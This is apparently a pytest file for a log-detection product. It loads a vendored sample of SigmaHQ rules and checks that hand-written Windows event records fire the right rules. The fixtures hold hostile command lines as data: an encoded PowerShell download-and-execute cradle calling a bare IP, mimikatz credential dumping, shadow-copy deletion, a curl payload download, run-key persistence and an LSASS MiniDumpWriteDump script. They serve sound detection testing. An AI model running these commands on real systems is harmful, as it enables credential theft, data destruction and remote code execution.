"""The public SigmaHQ rule corpus, loaded as it is (a verbatim sample in tests/data/sigmahq).

Operators point `rules.paths` at a checkout of https://github.com/SigmaHQ/sigma. The sample here
holds real rules from its `rules/`, `rules-emerging-threats/`, `rules-threat-hunting/` and
`rules-placeholder/` folders under their upstream paths (tests/data/sigmahq/README.md lists
them). What this file pins down:

- the load: how many rules load, how many are skipped and exactly why, that every problem is a
  RuleProblem naming its file and line, that no rule crashes the loader, and how long it takes;
- SigmaHQ's own regression samples (regression_data/*.json: EVTX records as evtx_dump renders
  them, the shape collectors/evtx.py reads) through the EVTX mapping, the normaliser and the
  engine: each fires its rule and nothing else;
- hand-written cases, one record a real host would log for the behaviour a rule describes and
  one near miss, in the formats the collectors read (Winlogbeat JSON, auth.log, nginx, Zeek), with
  exactly which rules each raises.

The cases at the end each hold one gap this sample exposed (and that was closed: field names,
logsources, parsers), on the smallest real case.
"""

from __future__ import annotations

import base64
import json
import re
import time
from collections import Counter
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from collectors import parsers
from collectors.evtx import evtx_to_ecs
from rules.engine import RuleEngine
from rules.sigma_rules import RuleProblem, RuleSet, load_rule_paths
from soc.events import EventNormaliser, RawRecord
from soc.timeutil import load_zone

DATA = Path(__file__).resolve().parents[1] / "data" / "sigmahq"
RULE_DIRS = tuple(DATA / name for name in (
    "rules", "rules-emerging-threats", "rules-threat-hunting", "rules-placeholder"))
SAMPLES = DATA / "regression_data"
# After every record here (the newest regression sample is from 2026-08-12).
NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
ZONE = load_zone("Asia/Ho_Chi_Minh")
NOT_COLLECTED = "names a log this product does not collect (rules/logsources.yaml)"


# ------------------------------------------------------------------------------------ loading

@cache
def corpus() -> tuple[RuleSet, float]:
    """The whole sample as `rules.paths` would load it, and how long that took."""
    started = time.perf_counter()
    ruleset = load_rule_paths(RULE_DIRS)
    return ruleset, time.perf_counter() - started


def relative(source: str) -> str:
    return Path(source).resolve().relative_to(DATA).as_posix()


def rule_files() -> list[Path]:
    return sorted(p for d in RULE_DIRS for p in d.rglob("*") if p.suffix in (".yml", ".yaml"))


def test_the_sample_is_vendored_with_its_licence() -> None:
    licence = (DATA / "LICENSE.Detection.Rules.md").read_text(encoding="utf-8")
    assert licence.startswith("# Detection Rule License (DRL) 1.1")
    readme = (DATA / "README.md").read_text(encoding="utf-8")
    assert "https://github.com/SigmaHQ/sigma" in readme
    listed = set(re.findall(r"^\| `([^`]+)` \| `[0-9a-f]{40}` \|$", readme, re.MULTILINE))
    vendored = {p.relative_to(DATA).as_posix() for p in DATA.rglob("*")
                if p.is_file() and p.name != "README.md"}
    assert listed == vendored  # every file, with the upstream commit it was copied from
    assert len(rule_files()) == 154


def test_how_many_rules_load_and_how_many_are_skipped() -> None:
    ruleset, _ = corpus()
    assert len(ruleset.detections) == 138
    assert len(ruleset.correlations) == 2
    assert len(ruleset.errors) == 16
    warnings = [p for p in ruleset.problems if p.severity == "warning"]
    assert len(warnings) == 3
    # Every YAML document of the sample is a loaded rule or a skipped one, none lost.
    documents = sum(1 for path in rule_files()
                    for document in yaml.safe_load_all(path.read_text(encoding="utf-8"))
                    if document is not None)
    assert documents == len(ruleset.detections) + len(ruleset.correlations) + len(ruleset.errors)


def test_every_skip_reason() -> None:
    ruleset, _ = corpus()
    reasons = Counter(p.reason for p in ruleset.errors)
    assert reasons == {
        # Logs this product does not collect (rules/logsources.yaml).
        f"logsource (product: aws, service: cloudtrail) {NOT_COLLECTED}": 3,
        f"logsource (product: azure, service: activitylogs) {NOT_COLLECTED}": 3,
        f"logsource (product: linux, category: process_creation) {NOT_COLLECTED}": 3,
        f"logsource (product: linux, service: auditd) {NOT_COLLECTED}": 1,
        # The deprecated aggregation syntax, replaced by correlation rules in Sigma 2.
        "The pipe syntax in Sigma conditions has been deprecated and replaced by Sigma "
        "correlations. pySigma doesn't supports this syntax.": 2,
        # rules-placeholder: %name% placeholders need values (rules.placeholders).
        "Placeholder replacement variable 'Admins_Workstations' doesn't exists.": 1,
        "Placeholder replacement variable 'userdomain' doesn't exists.": 1,
        # An older upstream version of the rule: `related` type 'obsoletes' is not in the
        # specification (derived, obsolete, merged, renamed, similar); fixed upstream since.
        "obsoletes is not a Sigma related valid type": 1,
        # An older upstream version with a typo: `all of selection_finstr_*` names nothing.
        "an 'of' pattern in the condition matches no search identifier": 1,
    }
    assert Counter(kind(p.reason) for p in ruleset.errors) == {
        "logsource not collected": 10, "pipe aggregation (Sigma 1)": 2,
        "placeholder without values": 2, "invalid metadata": 1, "condition names nothing": 1}


def kind(reason: str) -> str:
    """A skip reason's kind, for the summary an operator reads first."""
    for marker, name in ((NOT_COLLECTED, "logsource not collected"),
                         ("pipe syntax", "pipe aggregation (Sigma 1)"),
                         ("Placeholder", "placeholder without values"),
                         ("related valid type", "invalid metadata"),
                         ("matches no search identifier", "condition names nothing")):
        if marker in reason:
            return name
    return reason


def test_skipped_rules_by_file() -> None:
    ruleset, _ = corpus()
    skipped = {relative(p.source) for p in ruleset.errors}
    assert {path for path in skipped if not path.startswith("rules/")} == {
        "rules-placeholder/windows/builtin/security/win_security_admin_logon.yml",
        "rules-placeholder/windows/process_creation/"
        "proc_creation_win_userdomain_variable_enumeration.yml",
    }
    assert "rules/windows/process_creation/proc_creation_win_findstr_lsass.yml" in skipped
    assert "rules/linux/builtin/auth/lnx_auth_susp_failed_logons_single_source.yml" in skipped
    # A cloud rule names its logsource in the reason the operator sees.
    cloud = next(p for p in ruleset.errors if p.source.endswith("aws_root_account_usage.yml"))
    assert str(cloud).endswith(f"rule 8ad1600d-e9dc-4251-b0ee-a65268f29add error: logsource "
                               f"(product: aws, service: cloudtrail) {NOT_COLLECTED}")


def test_fields_no_collector_writes_are_warned_about() -> None:
    ruleset, _ = corpus()
    warned = Counter(re.match(r"field '([^']+)'", p.reason).group(1)  # type: ignore[union-attr]
                     for p in ruleset.problems if p.severity == "warning")
    # The Sigma taxonomy's names for web, proxy, DNS, firewall and Zeek logs are mapped to ECS
    # (rules/logsources.yaml); what is left are names outside the taxonomy.
    assert warned == {"blocked": 1, "user_name": 1, "deviceProcessName": 1}
    folders = Counter(relative(p.source).split("/")[1] for p in ruleset.problems
                      if p.severity == "warning")
    assert folders == {"network": 1, "linux": 2}  # Windows fields all map


def test_every_problem_names_its_file_and_line() -> None:
    ruleset, _ = corpus()
    for problem in ruleset.problems:
        assert isinstance(problem, RuleProblem)
        path = Path(problem.source)
        assert path.is_file() and path.resolve().is_relative_to(DATA)
        assert problem.line is not None and problem.line >= 1
        lines = path.read_text(encoding="utf-8").splitlines()
        # The line a document starts on: its first key (documents after a `---` too).
        assert re.match(r"^[A-Za-z_][\w-]*:", lines[problem.line - 1]), problem
        assert problem.rule_id, problem


def test_no_rule_crashes_the_loader() -> None:
    ruleset, _ = corpus()
    assert not [p for p in ruleset.problems if p.reason.startswith("malformed rule")]
    # Each file alone gives the same answer as the whole sample (no state leaks between
    # files), and loading never raises.
    whole = Counter((relative(p.source), p.reason) for p in ruleset.problems)
    alone: Counter[tuple[str, str]] = Counter()
    for path in rule_files():
        alone.update((relative(p.source), p.reason)
                     for p in load_rule_paths([path]).problems
                     if "references unknown rule" not in p.reason)
    assert alone == whole


def test_the_sample_loads_in_under_three_seconds() -> None:
    _, seconds = corpus()
    assert seconds < 3.0


# ------------------------------------------------------------------------------------ running

def normalise(records: Iterable[tuple[bytes, dict[str, Any]]], keep_original: bool,
              timestamp_required: bool = True) -> list[dict[str, Any]]:
    normaliser = EventNormaliser(ZONE, timedelta(days=1))
    return [normaliser.normalise(RawRecord(source="file:sigmahq-case", raw=raw, fields=fields,
                                           position=n, received=NOW,
                                           timestamp_required=timestamp_required,
                                           keep_original=keep_original), now=NOW)
            for n, (raw, fields) in enumerate(records)]


def parse(fmt: str, records: Sequence[str | dict[str, Any]]) -> list[dict[str, Any]]:
    """The events a collector makes of these records: `fmt` is a parser name (its records are
    lines, or dicts for JSON formats) or `evtx` (records as the evtx package renders them)."""
    if fmt == "evtx":
        documents = [r for r in records if isinstance(r, dict)]
        return normalise(((orjson.dumps(d), evtx_to_ecs(d)) for d in documents),
                         keep_original=False)
    parser = parsers.get(fmt)
    if hasattr(parser, "clock"):
        parser.clock = lambda: NOW  # type: ignore[attr-defined]
    raws = [r.encode() if isinstance(r, str) else orjson.dumps(r) for r in records]
    return normalise(((raw, parser.parse(raw)) for raw in raws), parser.keep_original,
                     parser.timestamp_required)


def fired(events: Sequence[dict[str, Any]]) -> Counter[str]:
    """The rule ids of every alert the sample's rules raise on these events, end of stream
    included (correlation windows close)."""
    engine = RuleEngine(corpus()[0])
    return Counter(alert["rule.id"] for alert in engine.detect(events) + engine.flush())


# --------------------------------------------------------------- SigmaHQ's regression samples

def samples() -> list[Path]:
    return sorted(SAMPLES.rglob("*.json"))


# The vendored version of this rule is skipped (see test_every_skip_reason): nothing fires.
SKIPPED_SAMPLE_RULE = "fe63010f-8823-4864-a96b-a7b4a0f7b929"


def test_the_regression_samples_vendored() -> None:
    assert len(samples()) == 20
    for path in samples():
        line = re.compile(rf"^id: {path.stem}$", re.MULTILINE)
        assert path.parent.name == next(
            f.stem for d in RULE_DIRS for f in d.rglob("*.yml")
            if line.search(f.read_text(encoding="utf-8")))


@pytest.mark.parametrize("path", [pytest.param(p, id=p.parent.name) for p in samples()])
def test_a_regression_sample_fires_its_rule_and_no_other(path: Path) -> None:
    document = json.loads(path.read_text(encoding="utf-8"))
    events = parse("evtx", document if isinstance(document, list) else [document])
    expected = {} if path.stem == SKIPPED_SAMPLE_RULE else {path.stem: len(events)}
    assert fired(events) == expected


# ------------------------------------------------------------------- hand-written Winlogbeat

COMPUTER = "ws-kt-07.sotc.gov.vn"
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
POWERSHELL = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")


def winlogbeat(log: tuple[str, str], event_id: int, data: dict[str, str], record: int,
               second: int = 0, keywords: str | None = None) -> dict[str, Any]:
    """One event as Winlogbeat 8 writes it (file or Logstash output, before any ingest
    pipeline): the record's own fields under `winlog`, EventData as text."""
    channel, provider = log
    winlog: dict[str, Any] = {
        "api": "wineventlog", "channel": channel, "computer_name": COMPUTER,
        "event_id": str(event_id), "provider_name": provider, "record_id": str(record),
        "process": {"pid": 3140, "thread": {"id": 4288}}, "event_data": data}
    if keywords:
        winlog["keywords"] = [keywords]
    if provider == "Microsoft-Windows-Sysmon":
        winlog["user"] = {"identifier": "S-1-5-18", "domain": "NT AUTHORITY", "name": "SYSTEM",
                          "type": "User"}
    return {
        "@timestamp": f"2026-11-22T03:00:{second:02d}.512Z",
        "agent": {"type": "winlogbeat", "version": "8.15.0", "name": "wec01"},
        "ecs": {"version": "8.0.0"}, "host": {"name": COMPUTER.split(".")[0]},
        "event": {"code": str(event_id), "kind": "event", "provider": provider},
        "log": {"level": "information"}, "winlog": winlog}


def process(image: str, command_line: str, parent: str = r"C:\Windows\explorer.exe",
            parent_command_line: str = r"C:\Windows\Explorer.EXE", *, user: str = r"SOTC\tranthib",
            original: str | None = None, record: int = 1, **extra: str) -> dict[str, Any]:
    """Sysmon event 1 (process creation) with every field Sysmon 15 writes."""
    name = image.rsplit("\\", 1)[-1]
    data = {
        "RuleName": "-", "UtcTime": "2026-11-22 03:00:00.498",
        "ProcessGuid": "{6f1d2b3c-1a2b-6740-5a01-000000000a00}", "ProcessId": "7788",
        "Image": image, "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
        "Description": name, "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation", "OriginalFileName": original or name.upper(),
        "CommandLine": command_line, "CurrentDirectory": "C:\\Users\\tranthib\\",
        "User": user, "LogonGuid": "{6f1d2b3c-1a2b-6740-e39a-520000000000}",
        "LogonId": "0x52e39a", "TerminalSessionId": "1", "IntegrityLevel": "Medium",
        "Hashes": "SHA256=6FEB16602A2FD1158C6F7E56E3B05A5E9AC01E88089535978C890EC6954A5AFA",
        "ParentProcessGuid": "{6f1d2b3c-1a2b-6740-2136-000000000a00}",
        "ParentProcessId": "3204", "ParentImage": parent,
        "ParentCommandLine": parent_command_line, "ParentUser": user}
    data.update(extra)
    return winlogbeat(SYSMON, 1, data, record)


def security(event_id: int, data: dict[str, str], record: int = 1, second: int = 0,
             failure: bool = False) -> dict[str, Any]:
    return winlogbeat(SECURITY, event_id, data, record, second,
                      "Audit Failure" if failure else "Audit Success")


def sysmon(event_id: int, data: dict[str, str], record: int = 1) -> dict[str, Any]:
    base = {"RuleName": "-", "UtcTime": "2026-11-22 03:00:00.498",
            "ProcessGuid": "{6f1d2b3c-1a2b-6740-5a01-000000000a00}", "ProcessId": "7788",
            "User": r"SOTC\tranthib"}
    return winlogbeat(SYSMON, event_id, {**base, **data}, record)


def new_process_4688(image: str, command_line: str, parent: str) -> dict[str, Any]:
    """Security 4688 with command-line auditing on (the Security log's process creation)."""
    return security(4688, {
        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
        "SubjectUserName": "nguyenvana", "SubjectDomainName": "SOTC",
        "SubjectLogonId": "0x3e2a41", "NewProcessId": "0x1a2c", "NewProcessName": image,
        "TokenElevationType": "%%1937", "ProcessId": "0x13f0", "CommandLine": command_line,
        "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
        "TargetLogonId": "0x0", "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288"})


def logon(event_id: int, logon_type: str, address: str, user: str = "ketoan01",
          second: int = 0, record: int = 1) -> dict[str, Any]:
    """4624 (logged on) or 4625 (failed) as a DC or member server writes it."""
    data = {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SRV-MC01$",
        "SubjectDomainName": "SOTC", "SubjectLogonId": "0x3e7",
        "TargetUserSid": "S-1-5-21-3623811015-3361044348-30300820-1207" if event_id == 4624
        else "S-1-0-0", "TargetUserName": user, "TargetDomainName": "SOTC",
        "LogonType": logon_type, "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate", "WorkstationName": "SRV-MC01",
        "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
        "ProcessId": "0x2a4", "ProcessName": r"C:\Windows\System32\svchost.exe",
        "IpAddress": address, "IpPort": "0"}
    if event_id == 4625:
        data.update({"Status": "0xc000006d", "FailureReason": "%%2313",
                     "SubStatus": "0xc000006a"})
    else:
        data.update({"TargetLogonId": "0x8a71c2", "ImpersonationLevel": "%%1833",
                     "ElevatedToken": "%%1842", "VirtualAccount": "%%1843"})
    return security(event_id, data, record, second, failure=event_id == 4625)


def encoded(script: str) -> str:
    """What `powershell -EncodedCommand` takes: base64 of the script in UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


LONG_SCRIPT = "$k = '" + "0123456789abcdef" * 64 + "'; [Convert]::FromHexString($k) | Out-Null"


@dataclass(frozen=True)
class Case:
    """Records in one collector format: `fire` raises `fires` (rule id → alerts), the near
    miss raises `quiet` (usually nothing)."""

    name: str
    fmt: str
    fire: tuple[str | dict[str, Any], ...]
    fires: dict[str, int]
    near_miss: tuple[str | dict[str, Any], ...]
    quiet: dict[str, int]


WHOAMI = "c248c896-e412-4279-8c15-1c558067b6fa"
NET_USER_ADD = "cd219ff3-fa99-45d4-8380-a7d15116c6dc"
SCHTASKS = "92626ddd-662c-49e3-ac59-f6535f12d189"
MIMIKATZ = "a642964e-bead-4bed-8910-1bb4d63e3b4d"
SHADOW_COPIES = "c947b146-0abc-4c87-9c64-b17e9d7274a2"
BASE64_IEX = "88f680b8-070e-402c-ae11-d2914f2257f1"
RUN_KEY = "de587dce-915e-4218-aac4-835ca6af6f70"
CSC_PARENT = "b730a276-6b63-41b8-bcf8-55930c8fc6ee"
CURL_IP = "9cc85849-3b02-4cb5-b371-3a1ff54f2218"
CURL_SUSP = "e218595b-bbe7-4ee5-8a96-f32a24ad3468"
RUNS_ITSELF = "bafd07c6-3ea5-454a-b4be-058fbb073de7"
LONG_POWERSHELL = "d0d28567-4b9a-45e2-8bbc-fb1b66a1f7f6"
DOLLAR_ACCOUNT = "cfeed607-6aa4-4bbd-9627-b637deb723c8"
RDP_PUBLIC = "259a9cdf-c4dd-4fa2-b243-2269e5ab18a2"
RDP_LOCALHOST = "51e33403-2a37-4d66-a574-1fda1782cc31"
FAILED_PUBLIC = "f88e112a-21aa-44bd-9b01-6ee2a2bbbed1"
NSSM = "42cfbb02-230b-431e-b352-4ec7876ca03b"
LSASS_ACCESS = "962fe167-e48d-4fd6-9974-11e5b9a5d6d1"
PS_KEYWORDS = "f62176f3-8128-4faa-bf6c-83261322e5eb"
NGROK = "1d08ac94-400d-4469-a82f-daee9a908849"
CERTUTIL_NET = "0dba975d-a193-4ed1-a067-424df57570d1"
TOR_DNS = "b55ca2a3-7cff-4dda-8bdd-c7bfa63bf544"
IP_LOOKUP = "ec82e2a5-81ea-4211-a1f8-37a0286df2c2"
LSASS_DUMP = "a5a2d357-1ab8-4675-a967-ef9990a59391"
STARTUP = "2aa0a6b4-a865-495b-ab51-c28249537b75"
SSHD_ERROR = "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"
SUDO_CVE = "7fcc54cb-f27d-4684-84b7-436af096f858"
PWNKIT = "0506a799-698b-43b4-85a1-ac4c84c720e9"
JNDI = "412d55bc-7737-4d25-9542-5b396867ce55"
RECON_AGENT = "19aa4f58-94ca-45ff-bc34-92e533c0994a"
APACHE_CVE = "3007fec6-e761-4319-91af-e32e20ac43f5"
COBALT_DNS = "2975af79-28c4-4d2f-a951-9095f229df29"
BRUTE_FORCE = "34fb5c3a-2ff6-487d-bfa3-717763f30b2c"

SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL_EXE = SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
TEMP = "C:\\Users\\tranthib\\AppData\\Local\\Temp\\"
AUTH = "Nov 22 09:{:02d}:00 bastion-01 "
NGINX = ('203.0.113.45 - - [22/Nov/2026:10:25:10 +0700] "GET {} HTTP/1.1" {} 166 "-" "{}"')
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"


def zeek_dns(query: str) -> dict[str, Any]:
    return {"_path": "dns", "ts": 1795322001.0, "uid": "C2vpC5nEIRy5vJN2wt",
            "id.orig_h": "10.45.109.31", "id.orig_p": 61002, "id.resp_h": "10.45.1.53",
            "id.resp_p": 53, "proto": "udp", "trans_id": 1202, "rtt": 0.0213, "query": query,
            "qclass": 1, "qclass_name": "C_INTERNET", "qtype": 1, "qtype_name": "A",
            "rcode": 0, "rcode_name": "NOERROR", "AA": False, "TC": False, "RD": True,
            "RA": True, "Z": 0, "answers": ["203.0.113.80"], "TTLs": [60.0],
            "rejected": False}


CASES = [
    # -------------------------------------------------------------- process_creation (Sysmon 1)
    Case("whoami /all", "winlog-json",
         (process(SYSTEM32 + "whoami.exe", "whoami  /all", SYSTEM32 + "cmd.exe", "cmd.exe"),),
         {WHOAMI: 1},
         (process(SYSTEM32 + "whoami.exe", "whoami /groups", SYSTEM32 + "cmd.exe", "cmd.exe"),),
         {}),
    Case("schtasks /create by a user, and by SYSTEM", "winlog-json",
         (process(SYSTEM32 + "schtasks.exe", 'schtasks /create /sc minute /mo 30 /tn "Updater" '
                  r'/tr C:\Users\Public\upd.exe', SYSTEM32 + "cmd.exe", "cmd.exe"),),
         {SCHTASKS: 1},
         (process(SYSTEM32 + "schtasks.exe", 'schtasks /create /tn "GoogleUpdate" /xml '
                  r'C:\Windows\Temp\gupd.xml', SYSTEM32 + "services.exe", "services.exe",
                  user=r"NT AUTHORITY\SYSTEM"),),
         {}),
    Case("mimikatz on the command line", "winlog-json",
         (process(TEMP + "m64.exe", r'm64.exe "privilege::debug" "sekurlsa::logonpasswords" '
                  "exit", POWERSHELL_EXE, "powershell.exe", original="mimikatz.exe"),),
         {MIMIKATZ: 1},
         (process(TEMP + "m64.exe", "m64.exe --help", POWERSHELL_EXE, "powershell.exe"),),
         {}),
    Case("shadow copies deleted", "winlog-json",
         (process(SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
                  SYSTEM32 + "cmd.exe", "cmd.exe /c vssadmin.exe delete shadows /all /quiet",
                  original="VSSADMIN.EXE"),),
         {SHADOW_COPIES: 1},
         (process(SYSTEM32 + "vssadmin.exe", "vssadmin.exe list shadows",
                  SYSTEM32 + "cmd.exe", "cmd.exe", original="VSSADMIN.EXE"),),
         {}),
    Case("base64-encoded IEX download cradle", "winlog-json",
         (process(POWERSHELL_EXE, "powershell.exe -NoP -W Hidden -Enc " + encoded(
             "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"),
             SYSTEM32 + "wscript.exe", r'wscript.exe "C:\Users\tranthib\Downloads\hd.js"',
             original="PowerShell.EXE"),),
         {BASE64_IEX: 1},
         (process(POWERSHELL_EXE, "powershell.exe -NoP -Enc " + encoded("Get-Date"),
                  SYSTEM32 + "cmd.exe", "cmd.exe", original="PowerShell.EXE"),),
         {}),
    Case("run key written with reg.exe", "winlog-json",
         (process(SYSTEM32 + "reg.exe", r"reg  add HKCU\Software\Microsoft\Windows\CurrentVersion"
                  r"\Run /v OneDriveUpd /t REG_SZ /d C:\Users\Public\upd.exe /f",
                  SYSTEM32 + "cmd.exe", "cmd.exe"),),
         {RUN_KEY: 1},
         (process(SYSTEM32 + "reg.exe", r"reg  query HKCU\Software\Microsoft\Windows"
                  r"\CurrentVersion\Run", SYSTEM32 + "cmd.exe", "cmd.exe"),),
         {}),
    Case("csc.exe from a script host", "winlog-json",
         (process(r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
                  r'"csc.exe" /noconfig /fullpaths @"C:\Users\tranthib\AppData\Local\Temp'
                  r'\x3kq1z.cmdline"', SYSTEM32 + "wscript.exe",
                  r'wscript.exe C:\Users\tranthib\Downloads\invoice.js'),),
         {CSC_PARENT: 1},
         (process(r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
                  r'"csc.exe" /noconfig @"C:\Users\tranthib\AppData\Local\Temp\a1.cmdline"',
                  r"C:\Program Files\Microsoft Visual Studio\2022\Common7\IDE\devenv.exe",
                  "devenv.exe"),),
         {}),
    Case("curl downloads from a bare IP into Public", "winlog-json",
         (process(SYSTEM32 + "curl.exe", r"curl.exe http://203.0.113.7/payload.txt -o "
                  r"C:\Users\Public\payload.txt", SYSTEM32 + "cmd.exe", "cmd.exe"),),
         {CURL_IP: 1, CURL_SUSP: 1},
         (process(SYSTEM32 + "curl.exe", "curl.exe --version", SYSTEM32 + "cmd.exe",
                  "cmd.exe"),),
         {}),
    Case("an executable that starts itself (field reference)", "winlog-json",
         (process(TEMP + "svcupd.exe", TEMP + "svcupd.exe -s", TEMP + "svcupd.exe",
                  TEMP + "svcupd.exe"),),
         {RUNS_ITSELF: 1},
         (process(TEMP + "svcupd.exe", TEMP + "svcupd.exe -s", SYSTEM32 + "cmd.exe",
                  "cmd.exe"),),
         {}),
    Case("PowerShell command line of 1000 characters or more (regex)", "winlog-json",
         (process(POWERSHELL_EXE, f'powershell.exe -NoProfile -Command "{LONG_SCRIPT}"',
                  SYSTEM32 + "cmd.exe", "cmd.exe", original="PowerShell.EXE"),),
         {LONG_POWERSHELL: 1},
         (process(POWERSHELL_EXE, "powershell.exe -NoProfile -Command \"" + LONG_SCRIPT[:900]
                  + "'\"", SYSTEM32 + "cmd.exe", "cmd.exe", original="PowerShell.EXE"),),
         {}),
    # --------------------------------------------------- process_creation (Security 4688)
    Case("net user /add in the Security log", "winlog-json",
         (new_process_4688(SYSTEM32 + "net.exe", "net  user hotro P@ssw0rd! /add",
                           SYSTEM32 + "cmd.exe"),),
         {NET_USER_ADD: 1},
         (new_process_4688(SYSTEM32 + "net.exe", "net  user hotro", SYSTEM32 + "cmd.exe"),),
         {}),
    # ------------------------------------------------------------------------ security
    Case("account created with a trailing $", "winlog-json",
         (security(4720, {
             "TargetUserName": "hotro$", "TargetDomainName": "SOTC",
             "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-1301",
             "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
             "SubjectUserName": "Administrator", "SubjectDomainName": "SOTC",
             "SubjectLogonId": "0x5c1e2", "SamAccountName": "hotro$",
             "DisplayName": "%%1793", "UserPrincipalName": "-", "UserAccountControl": "%%2080",
             "PrimaryGroupId": "513"}),),
         {DOLLAR_ACCOUNT: 1},
         (security(4720, {
             "TargetUserName": "hotro", "TargetDomainName": "SOTC",
             "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-1302",
             "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
             "SubjectUserName": "Administrator", "SubjectDomainName": "SOTC",
             "SubjectLogonId": "0x5c1e2", "SamAccountName": "hotro"}),),
         {}),
    Case("RDP logon from a public address, and from localhost (cidr)", "winlog-json",
         (logon(4624, "10", "198.51.100.23"), logon(4624, "10", "127.0.0.1", record=2)),
         {RDP_PUBLIC: 1, RDP_LOCALHOST: 1},
         (logon(4624, "10", "10.45.20.14"), logon(4624, "3", "198.51.100.23", record=2)),
         {}),
    Case("failed logon from a public address", "winlog-json",
         (logon(4625, "3", "198.51.100.23"),),
         {FAILED_PUBLIC: 1},
         (logon(4625, "3", "172.20.4.9"),),
         {}),
    Case("NSSM installed as a service (4697)", "winlog-json",
         (security(4697, {
             "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
             "SubjectUserName": "Administrator", "SubjectDomainName": "SOTC",
             "SubjectLogonId": "0x5c1e2", "ServiceName": "SyncSvc",
             "ServiceFileName": r"C:\Users\Public\nssm.exe", "ServiceType": "0x10",
             "ServiceStartType": "2", "ServiceAccount": "LocalSystem"}),),
         {NSSM: 1},
         (security(4697, {
             "SubjectUserName": "Administrator", "SubjectDomainName": "SOTC",
             "ServiceName": "SyncSvc", "ServiceFileName": r"C:\Program Files\nssm\nssm.exe",
             "ServiceType": "0x10", "ServiceStartType": "2",
             "ServiceAccount": "LocalSystem"}),),
         {}),
    Case("LSASS handle requested by a user's tool (4656)", "winlog-json",
         (security(4656, {
             "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
             "SubjectUserName": "nguyenvana", "SubjectDomainName": "SOTC",
             "SubjectLogonId": "0x3e2a41", "ObjectServer": "Security", "ObjectType": "Process",
             "ObjectName": r"\Device\HarddiskVolume3\Windows\System32\lsass.exe",
             "HandleId": "0x0", "AccessMask": "0x1010", "ProcessId": "0x1f34",
             "ProcessName": r"C:\Users\nguyenvana\Downloads\pd64.exe"}),),
         {LSASS_ACCESS: 1},
         (security(4656, {
             "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS-KT-07$",
             "SubjectDomainName": "SOTC", "SubjectLogonId": "0x3e7",
             "ObjectServer": "Security", "ObjectType": "Process",
             "ObjectName": r"\Device\HarddiskVolume3\Windows\System32\lsass.exe",
             "AccessMask": "0x1010", "ProcessId": "0x2b8",
             "ProcessName": r"C:\Windows\System32\svchost.exe"}),),
         {}),
    # ------------------------------------------------------------------ ps_script (4104)
    Case("script block with exploitation keywords", "winlog-json",
         (winlogbeat(POWERSHELL, 4104, {
             "MessageNumber": "1", "MessageTotal": "1",
             "ScriptBlockText": "$m = [PSObject].Assembly.GetType('System.Management.Automation"
                                ".WindowsErrorReporting'); $d = $m.GetNestedType("
                                "'NativeMethods', 'NonPublic').GetMethod('MiniDumpWriteDump')",
             "ScriptBlockId": "2911f180-ac92-4970-9dd7-55c8c07ee22c",
             "Path": r"C:\Users\tranthib\Downloads\out.ps1"}, 1),),
         {PS_KEYWORDS: 1},
         (winlogbeat(POWERSHELL, 4104, {
             "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "Get-Date",
             "ScriptBlockId": "2911f180-ac92-4970-9dd7-55c8c07ee22d", "Path": ""}, 1),),
         {}),
    # ---------------------------------------------------------- network_connection (Sysmon 3)
    Case("connection to an ngrok tunnel", "winlog-json",
         (sysmon(3, {"Image": TEMP + "ngrok.exe", "Protocol": "tcp", "Initiated": "true",
                     "SourceIsIpv6": "false", "SourceIp": "10.45.101.23",
                     "SourceHostname": COMPUTER, "SourcePort": "49852",
                     "DestinationIsIpv6": "false", "DestinationIp": "3.20.27.198",
                     "DestinationHostname": "tunnel.us.ngrok.com", "DestinationPort": "443",
                     "DestinationPortName": "https"}),),
         {NGROK: 1},
         (sysmon(3, {"Image": TEMP + "ngrok.exe", "Protocol": "tcp", "Initiated": "true",
                     "SourceIp": "10.45.101.23", "SourcePort": "49853",
                     "DestinationIp": "3.20.27.199", "DestinationHostname": "ngrok.com",
                     "DestinationPort": "443"}),),
         {}),
    Case("certutil connects out", "winlog-json",
         (sysmon(3, {"Image": SYSTEM32 + "certutil.exe", "Protocol": "tcp",
                     "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.45.101.23",
                     "SourcePort": "49860", "DestinationIsIpv6": "false",
                     "DestinationIp": "198.51.100.20", "DestinationPort": "443",
                     "DestinationPortName": "https"}),),
         {CERTUTIL_NET: 1},
         (sysmon(3, {"Image": SYSTEM32 + "certutil.exe", "Protocol": "tcp",
                     "Initiated": "true", "SourceIp": "10.45.101.23", "SourcePort": "49861",
                     "DestinationIp": "198.51.100.20", "DestinationPort": "8443"}),),
         {}),
    # -------------------------------------------------------------- dns_query (Sysmon 22)
